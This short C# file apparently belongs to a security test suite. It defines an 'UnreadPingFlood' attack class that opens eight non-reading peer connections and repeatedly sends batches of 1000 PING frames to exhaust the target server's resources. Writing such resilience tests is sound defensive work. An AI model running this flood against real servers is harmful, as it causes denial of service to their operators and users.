using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using static ExtProc.Tests.Transport.RawFrames;

namespace ExtProc.Attacks.Runnings;

/// <summary>Asks for answers to PING and reads none of them.</summary>
internal sealed class UnreadPingFlood : Attack
{
    public override Attacker By => Attacker.Peer;

    public override async Task RunAsync(Target target)
    {
        byte[] pings = ((ReadOnlySpan<byte>)Frame(PingFrame, 0, 0, new byte[8])).Times(1000);
        Peer[] peers = await Task.WhenAll(Enumerable.Range(0, 8).Select(_ => target.PeerAsync(reads: false)));
        await Task.WhenAll(peers.Select(async peer =>
        {
            for (int round = 0; round < target.Count(20, 1000) && !peer.Gone; round++)
            {
                await peer.WriteAsync(pings);
            }
        }));
    }
}
